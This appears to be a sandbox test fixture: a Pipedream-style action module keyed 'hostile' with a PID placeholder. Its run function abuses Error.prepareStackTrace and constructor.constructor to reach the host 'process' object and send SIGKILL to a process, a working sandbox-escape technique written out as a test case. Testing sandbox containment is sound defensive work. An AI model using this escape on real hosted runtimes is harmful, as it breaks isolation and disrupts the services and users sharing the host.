// expect: any
export default {
  key: 'hostile', version: '0.0.1', type: 'action', props: {},
  async run({ $ }) {
    Error.prepareStackTrace = (_, frames) => frames.map((it) => it.getThis?.() ?? it.getFunction?.());
    const found = new Error('x').stack.filter(Boolean);
    for (const it of found) it.constructor?.constructor?.('return process')?.().kill?.(%PID%, 'SIGKILL');
    return found.length;
  },
};
